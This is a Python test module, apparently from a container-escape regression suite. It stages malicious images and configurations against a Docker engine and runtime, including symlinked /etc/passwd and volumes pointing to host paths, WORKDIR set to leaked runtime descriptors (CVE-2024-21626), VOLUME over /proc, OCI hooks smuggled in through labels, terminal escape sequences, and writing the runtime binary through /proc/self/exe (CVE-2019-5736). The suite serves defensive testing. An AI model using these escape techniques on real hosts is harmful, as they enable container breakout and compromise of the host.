"""Attacks by the root that an image brings, by its configuration, and on the program of the runtime."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tarfile
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

from docker.errors import APIError
from docker.models.containers import Container
from docker.types import Mount

from tests.conftest import eventually
from tests.escape import kit
from tests.escape.conftest import in_chroot
from tests.escape.ground import LOOKED, SLEEP, Attack, Content, Ground, shell, stack_file
from tests.escape.kit import entry
from tests.escape.layers import folder, link


def environment(g: Ground) -> dict[str, str]:
    return {"FIELD": json.dumps(g.field.info)}


def bundle(g: Ground, ident: str) -> Path:
    return g.field.root / "run/containers" / ident


# the root that an image brings: links where the engine, or the runtime, writes or mounts


def linked(name: str, target: str = "new", command: Sequence[str] = ("true",), **options: Any) -> tuple[Attack, Attack]:
    """An image whose *name* is a link to *target* outside; and who opens *name* below a root, for writing."""

    def attack(g: Ground) -> str:
        above = name.rpartition("/")[0]
        entries = dict([*([folder(above)] if above else []), link(name, g.outside / target)])
        return g.load(entries) or g.run(list(command), **options)

    def twin(g: Ground) -> None:
        path = g.place / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(g.outside / target)
        path.write_text("evil")

    return attack, twin


def linked_folder(name: str, **options: object) -> tuple[Attack, Attack]:
    """An image whose *name* is a link to the folder outside; and who makes a file below it."""
    attack, _ = linked(name, "folder", **options)  # type: ignore[arg-type]

    def twin(g: Ground) -> None:
        path = g.place / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(g.outside / "folder")
        (path / "new").write_text("evil")

    return attack, twin


def passwd_link(g: Ground) -> str:
    """The host's file would make `evil` a user that there is."""
    (g.outside / "file").write_text("evil:x:4242:4242::/:/bin/sh\n")
    g.begin()
    text = g.load(dict([link("etc/passwd", g.outside / "file")])) or g.run(["id", "-u"], user="evil")
    if "4242" in text:
        g.gains.append("a user of the host's file")
    return text


def passwd_link_followed(g: Ground) -> None:
    (g.place / "passwd").symlink_to(g.outside / "file")
    g.take((g.place / "passwd").read_text())


def passwd_fifo(g: Ground) -> str:
    return g.load(dict([entry("etc/passwd", type=tarfile.FIFOTYPE)])) or g.run(["true"], user="evil")


def passwd_fifo_opened(g: Ground) -> None:
    os.mkfifo(g.place / "passwd")
    with subprocess.Popen(["cat", str(g.place / "passwd")]) as reader:
        try:
            reader.wait(0.3)
        except subprocess.TimeoutExpired:
            g.gains.append("who opens it waits for ever")
        finally:
            reader.kill()


# an image's configuration


def working_directory(g: Ground) -> str:
    """WORKDIR that is a link to a descriptor of the runtime's, each that it may have (CVE-2024-21626)."""
    words = ["python3", "/inside.py", "working_directory_outside"]

    def run(number: int) -> str:
        one = Ground(g.field, g.client, g.base / f"fd{number}")
        return one.run(words, image="attacker", working_dir=f"/srv/fd{number}", environment=environment(g))

    with ThreadPoolExecutor(4) as pool:
        told = list(pool.map(run, kit.DESCRIPTORS))
    box = g.start(SLEEP)
    for number in kit.DESCRIPTORS:
        for path in (f"/srv/fd{number}", f"/proc/self/fd/{number}"):
            done = g.client.api.exec_create(box.id, words, workdir=path, environment=environment(g))
            told.append(g.client.api.exec_start(done["Id"]).decode(errors="replace"))
    for text in told:
        g.take(text)
    return "\n".join(told)


def working_directory_followed(g: Ground) -> None:
    g.take(in_chroot(g.field, g.place, ["working_directory_outside"], "/srv/fd7"))


def working_directory_of_image(g: Ground) -> str:
    text = g.load(dict([folder("srv")]), {"Cmd": ["true"], "WorkingDir": "/proc/self/fd/8"})
    return text or g.run()


def working_directory_long(g: Ground) -> str:
    return g.load(dict([folder("srv")]), {"Cmd": ["true"], "WorkingDir": "/x" * 3000}) or g.run()


def make_directories_by_recursion(g: Ground) -> None:
    def make(parts: Sequence[str]) -> None:
        if parts:
            make(parts[:-1])

    try:
        make(("/x" * 3000).split("/"))
    except RecursionError as error:
        g.gains.append(str(error))


def image_volume(path: str) -> Attack:
    """VOLUME *path*, after which /proc is another file system than the kernel's, if anything is gained."""

    def attack(g: Ground) -> str:
        config = {"Cmd": ["stat", "-f", "-c", "kind %T", "/proc"], "Volumes": {path: {}}}
        text = g.load(dict([link("srv/kernel", "/proc")]), config) or g.run()
        if "kind" in text and "kind proc" not in text:
            g.gains.append("/proc is a volume")
        return text

    return attack


def mount_at_link_of_volume(g: Ground) -> str:
    box = g.start(SLEEP, mounts=[Mount("/v", g.name, type="volume")])
    g.copy_in(box, "/v", kit.pack(dict([link("x", "/proc")])))
    g.remove()
    mounts = [Mount("/v", g.name, type="volume"), Mount("/v/x", None, type="tmpfs")]
    text = g.run(["stat", "-f", "-c", "kind %T", "/proc"], image="busybox", mounts=mounts)
    if "kind" in text and "kind proc" not in text:
        g.gains.append("/proc is a tmpfs")
    return text


def volume_over_proc_by_hand(g: Ground) -> None:
    """What a runtime does that mounts wherever it is told."""
    words = ("unshare", "-m", "sh", "-c", 'mount --bind "$1" /proc && stat -f -c "kind %T" /proc', "sh", str(g.place))
    text = shell(*words).stdout
    if "kind" in text and "kind proc" not in text:
        g.gains.append("/proc is a folder")


def volume_at_link(g: Ground) -> str:
    config = {"Cmd": ["sh", "-c", "echo evil > /data/new; ls /data"], "Volumes": {"/data": {}}}
    return g.load(dict([link("data", g.outside)]), config) or g.run()


def volume_at_link_followed(g: Ground) -> None:
    (g.place / "data").symlink_to(g.outside)
    words = (
        "unshare",
        "-m",
        "sh",
        "-c",
        'mount -t tmpfs tmpfs "$1"/data && mountpoint -q "$2" && echo mounted',
        "sh",
        str(g.place),
        str(g.outside),
    )
    if "mounted" in shell(*words).stdout:
        g.gains.append("the mount lies outside")


def hooks(g: Ground) -> str:
    """Programs for the runtime, wherever an image's documents have room for words."""
    program = {"path": "/bin/sh", "args": ["sh", "-c", f"touch {g.outside}/ran"]}
    order = {
        name: [program] for name in ("prestart", "createRuntime", "createContainer", "startContainer", "poststart", "poststop")
    }
    words = {f"run.oci.hooks.{name}": json.dumps(value) for name, value in order.items()}
    words |= {
        "run.oci.hooks.stdout": f"{g.outside}/ran",
        "run.oci.handler": "wasm",
        "run.oci.seccomp_bpf_data": "AAAA",
        "org.criu.config": f"{g.outside}/file",
    }
    config = {"Cmd": SLEEP, "Labels": words, "Annotations": words, "hooks": order, "Hooks": order}
    if text := g.load(dict([folder("srv")]), config):
        return text
    box = g.start(SLEEP, image=g.name)
    document = json.loads((bundle(g, box.id) / "config.json").read_bytes())
    found = [key for key in ("hooks", *words) if key in document or key in document.get("annotations", {})]
    g.gains += [f"{key} reaches the runtime" for key in found if key != "run.oci.seccomp_bpf_data"]
    if "AAAA" in document.get("annotations", {}).values():
        g.gains.append("the image brings its own seccomp program")
    return ""


def hooks_in_a_bundle(g: Ground) -> None:
    root = g.place / "rootfs"
    root.mkdir()
    shell(kit.program("tar"), "-xC", str(root), input=g.field.base.decode("latin-1"), encoding="latin-1")
    shell(kit.program("runc"), "spec", cwd=g.place)
    document = json.loads((g.place / "config.json").read_bytes())
    document["process"] |= {"terminal": False, "args": ["true"]}
    document["hooks"] = {"prestart": [{"path": "/bin/sh", "args": ["sh", "-c", f"touch {g.outside}/ran"]}]}
    (g.place / "config.json").write_text(json.dumps(document))
    shell(*g.field.enter(kit.program("runc"), "--root", str(g.place / "state"), "run", "-b", str(g.place), g.name))


TITLE = "\x1b]0;evil\x07"
"""An order to a terminal: another title."""


def terminal(g: Ground) -> str:
    """Orders to the terminal of whoever starts the image, where its documents have room for words."""
    text = ""
    for config in ({"Cmd": [TITLE]}, {"Cmd": ["true"], "User": TITLE}, {"Cmd": ["true"], "WorkingDir": f"/etc/passwd/{TITLE}"}):
        text += g.load(dict([folder("srv")]), config)
        text += stack_file(g, f"services: {{a: {{image: {g.name}}}}}\n", "up", "-p", g.name)
        text += stack_file(g, f"services: {{a: {{image: {g.name}}}}}\n", "ps", "-a", "-p", g.name)
        g.field.pystack("down", "-p", g.name)
    if "\x1b" in text:
        g.gains.append("the terminal has another title")
    return text


def terminal_of_a_program(g: Ground) -> None:
    done = g.field.pystack("container", "run", "--rm", "busybox", "printf", TITLE)
    if "\x1b" in done.stdout:
        g.gains.append("the terminal has another title")


def watched(g: Ground, container: Container) -> dict[str, str]:
    """What `inside.py --watch` in *container* found."""
    container.exec_run(["touch", "/tmp/stop"])
    container.wait()
    found: dict[str, str] = json.loads(container.logs().decode().splitlines()[-1])
    return found


def runtime_program(g: Ground) -> str:
    """A process in the container opens the program of the runtime that enters it, for writing (CVE-2019-5736)."""
    script = dict([entry("srv/evil", b"#!/proc/self/exe --version\n"), link("srv/exe", "/proc/self/exe")])
    box = g.start(["python3", "/inside.py", "--watch"], environment=environment(g))
    box.put_archive("/", kit.pack(script))
    for words in (["/srv/evil"], ["/srv/exe"], ["/proc/self/exe"], ["true"]) * 2:
        for privileged in (False, True):
            with suppress(APIError):  # that it runs at all is not asked
                box.exec_run(words, privileged=privileged)
    found = watched(g, box)
    g.gains += [f"{where} can be written" for where, answer in found.items() if answer == "gained"]
    return str(found)


def runtime_descriptors(g: Ground) -> str:
    """The same, after the descriptors of whoever enters."""
    box = g.start(["python3", "/inside.py", "--watch"], environment=environment(g))
    for words in (["/proc/self/exe"], ["true"]) * 2:
        for privileged in (False, True):
            with suppress(APIError):
                box.exec_run(words, privileged=privileged)
    found = watched(g, box)
    g.take(found.get("descriptors", ""))
    return str(found)


RUNTIME = """
import ctypes, json, os, sys
libc = ctypes.CDLL(None)
pid, keep = sys.argv[1], int(sys.argv[2], 16)
os.dup2(os.open("/", os.O_RDONLY), 7)
for kind, flag in (("mnt", 0x20000), ("pid", 0x20000000)):
    namespace = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
    if kind == "pid":
        libc.setns(namespace, flag)
    else:
        mounts = namespace
libc.setns(mounts, 0x20000)
if os.fork() == 0:
    for number in range(41):
        if not keep >> number & 1:
            libc.prctl(24, number, 0, 0, 0)
    os.execv("/proc/self/exe", ["evil", "-c", "import sys; sys.stdin.read()"])
os.wait()
"""
"""A runtime that is not careful: it enters a container as the program of the host that it is, and runs what it is told."""


def careless_runtime(g: Ground) -> None:
    found = careless(g)
    g.gains += [f"{where} can be written" for where, answer in found.items() if answer == "gained"]


def careless_runtime_with_descriptor(g: Ground) -> None:
    g.take(careless(g).get("descriptors", ""))


def careless(g: Ground) -> dict[str, str]:
    program = g.outside / "runtime"
    shutil.copy(os.path.realpath(kit.PYTHON), program)
    g.begin()
    box = g.start(["python3", "/inside.py", "--watch"], environment=environment(g))
    box.reload()
    pid = int(box.attrs["State"]["Pid"])
    status = shell(*g.field.enter("cat", f"/proc/{pid}/status")).stdout
    bounding = next(line.split()[1] for line in status.splitlines() if line.startswith("CapBnd"))
    words = g.field.enter(str(program), "-E", "-s", "-c", RUNTIME, str(pid), bounding)
    with subprocess.Popen(words, stdin=subprocess.PIPE) as runtime:
        assert runtime.stdin

        def seen() -> None:
            assert box.exec_run(["test", "-e", "/tmp/seen"]).exit_code == 0

        try:
            eventually(seen, 10)
        finally:
            runtime.stdin.close()
            runtime.wait(20)
    return watched(g, box)


ROWS = (
    Content("root_hosts_link", "/etc/hosts is a link out", LOOKED, "opened by its path", *linked("etc/hosts")),
    Content("root_hostname_link", "/etc/hostname is a link out", LOOKED, "opened by its path", *linked("etc/hostname")),
    Content("root_resolv_link", "/etc/resolv.conf is a link out", LOOKED, "opened by its path", *linked("etc/resolv.conf")),
    Content(
        "root_etc_link", "/etc is a link out", "refused", "opened by its path", *linked_folder("etc"), "is a symbolic link"
    ),
    Content(
        "root_proc_link", "/proc is a link out", "refused", "opened by its path", *linked_folder("proc"), "is a symbolic link"
    ),
    Content(
        "root_sys_link", "/sys is a link out", "refused", "opened by its path", *linked_folder("sys"), "is a symbolic link"
    ),
    Content(
        "root_dev_link", "/dev is a link out", "refused", "opened by its path", *linked_folder("dev"), "is a symbolic link"
    ),
    Content(
        "root_run_link",
        "/run, which secrets are mounted below, is a link out",
        LOOKED,
        "opened by its path",
        *linked_folder("run", tmpfs={"/run/secrets": ""}),
    ),
    Content(
        "root_workdir_link",
        "the working directory lies behind a link out",
        LOOKED,
        "opened by its path",
        *linked_folder("work", working_dir="/work/new"),
    ),
    Content(
        "root_tmpfs_link",
        "the place of a tmpfs is a link out",
        LOOKED,
        "opened by its path",
        *linked_folder("data", command=["touch", "/data/new"], tmpfs={"/data": ""}),
    ),
    Content(
        "root_passwd_link",
        "/etc/passwd is a link to a file of the host",
        LOOKED,
        "opened by its path",
        passwd_link,
        passwd_link_followed,
        "no matching entries in passwd file",
    ),
    Content(
        "root_passwd_fifo",
        "/etc/passwd is a FIFO that nobody writes",
        "only regular files are read",
        "opened by its path",
        passwd_fifo,
        passwd_fifo_opened,
        "cannot be read",
    ),
    Content(
        "config_workdir_descriptor",
        "WORKDIR or exec's directory is a descriptor of the runtime's (CVE-2024-21626)",
        "closed before anything runs; checked by the runtime",
        "a runtime that leaves a descriptor open",
        working_directory,
        working_directory_followed,
    ),
    Content(
        "config_workdir_proc",
        "WORKDIR /proc/self/fd/8",
        "refused",
        "a runtime that leaves a descriptor open",
        working_directory_of_image,
        working_directory_followed,
        "must be an absolute path outside /proc",
    ),
    Content(
        "config_workdir_long",
        "WORKDIR of 3,000 parts",
        "bounds of a path",
        "made by recursion",
        working_directory_long,
        make_directories_by_recursion,
        "directories deep",
    ),
    Content(
        "config_volume_proc",
        "VOLUME /proc: what writes security labels there writes to a file (CVE-2019-16884)",
        "refused",
        "mounted as it is told",
        image_volume("/proc"),
        volume_over_proc_by_hand,
        "/proc",
    ),
    Content(
        "config_volume_proc_link",
        "VOLUME at a link to /proc",
        "refused",
        "mounted as it is told",
        image_volume("/srv/kernel"),
        volume_over_proc_by_hand,
        "/proc",
    ),
    Content(
        "runtime_mount_swapped",
        "a link in a volume, to /proc, is the place of another mount (CVE-2023-27561)",
        "refused",
        "mounted as it is told",
        mount_at_link_of_volume,
        volume_over_proc_by_hand,
    ),
    Content(
        "config_volume_link",
        "VOLUME at a link out (CVE-2021-30465)",
        LOOKED,
        "mounted as it is told",
        volume_at_link,
        volume_at_link_followed,
    ),
    Content(
        "config_hooks",
        "hooks and annotations of runtimes in labels and documents of the image",
        "config.json has nothing of an image but what is known",
        "a hook in config.json",
        hooks,
        hooks_in_a_bundle,
    ),
    Content(
        "terminal_orders",
        "its command, user and directory hold orders to the terminal of who starts it",
        "control characters are left out of what is told",
        "printed by a program, whose output is passed on as it is",
        terminal,
        terminal_of_a_program,
        "evil",
    ),
    Content(
        "runtime_descriptors",
        "the descriptors of a runtime that enters are opened through /proc/PID/fd (CVE-2016-9962)",
        "it cannot be traced; its descriptors are closed",
        "a runtime that leaves one open, and can be traced",
        runtime_descriptors,
        careless_runtime_with_descriptor,
    ),
    Content(
        "runtime_program",
        "the program of the runtime is opened for writing through /proc/PID/exe (CVE-2019-5736)",
        "the runtime runs from a sealed copy",
        "a runtime that does not",
        runtime_program,
        careless_runtime,
    ),
)
